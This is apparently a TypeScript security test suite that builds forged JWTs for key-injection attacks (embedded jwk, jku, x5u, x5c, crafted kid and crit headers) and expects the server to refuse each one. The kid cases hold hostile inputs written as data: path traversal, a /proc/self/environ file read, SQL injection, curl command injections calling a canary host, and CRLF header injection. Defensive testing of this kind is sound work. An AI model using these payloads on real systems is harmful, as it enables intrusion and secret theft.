import { base64url, HASHES, signatureOf } from '../auth-keys.ts';
import { family, type Kit, refused, type Vector, without } from './kit.ts';

/** The token brings its own key, or says where to find one. */
export function keyInjectionVectors(kit: Kit): Vector[] {
  const { token, header, claims, stranger, canary } = kit;
  const jwk = { ...stranger.publicKey.export({ format: 'jwk' }), kid: stranger.kid };
  const by = (overrides: Record<string, unknown>) => token({ header: header(overrides), key: stranger });
  const certificate = stranger.publicKey.export({ format: 'der', type: 'spki' }).toString('base64');
  const kid = (title: string, value: unknown) =>
    refused(`kid: ${title}`, token({ header: header({ kid: value }) }));

  return family('key-injection', [
    refused('jwk', by({ jwk })),
    refused('jwk, its own kid', by({ jwk, kid: stranger.kid })),
    refused('jwk, no kid', by({ jwk, ...without('kid') })),
    refused('jku', by({ jku: `${canary}/jwks` })),
    refused('jku, its own kid', by({ jku: `${canary}/jwks`, kid: stranger.kid })),
    refused('x5u', by({ x5u: `${canary}/cert.pem` })),
    refused('x5c', by({ x5c: [certificate] })),
    refused(
      'iss with a discovery document of its own',
      token({ payload: claims({ iss: `${canary}/oidc` }), key: stranger }),
    ),
    kid('unknown', 'no-such-key'),
    kid('an address', `${canary}/jwks`),
    kid('a path', '../../../../../../dev/null'),
    kid('a file', 'file:///proc/self/environ'),
    kid('SQL', "x' UNION SELECT 'AAAA' -- "),
    kid('a command', `$(curl ${canary}/kid)`),
    kid('a command behind a pipe', `x|curl ${canary}/kid`),
    kid('__proto__', '__proto__'),
    kid('constructor', 'constructor'),
    kid('null', null),
    kid('a number', 0),
    kid('a list', [kit.main.kid]),
    kid('an object', { toString: kit.main.kid }),
    kid('4 KB', 'k'.repeat(4_096)),
    kid('a line break', `${kit.main.kid}\r\nX-Injected: 1`),
    kid('empty', ''),
    refused(
      'crit with an unknown extension',
      token({ header: header({ crit: ['urn:example:x'], 'urn:example:x': true }) }),
    ),
    refused('crit empty', token({ header: header({ crit: [] }) })),
    refused('crit no list', token({ header: header({ crit: 'b64' }) })),
    refused('crit with a registered name', token({ header: header({ crit: ['exp'] }) })),
    refused('b64 false in crit, payload encoded', token({ header: header({ crit: ['b64'], b64: false }) })),
    refused('b64 false in crit, payload as it is', unencoded(kit), [400, 401]),
  ]);
}

/** RFC 7797: the payload stands in the token without an encoding. */
function unencoded(kit: Kit): string {
  const head = base64url(kit.header({ crit: ['b64'], b64: false }));
  const payload = JSON.stringify(kit.claims());
  const signature = signatureOf(kit.main.privateKey, HASHES[kit.alg], `${head}.${payload}`);
  return `${head}.${payload}.${signature.toString('base64url')}`;
}
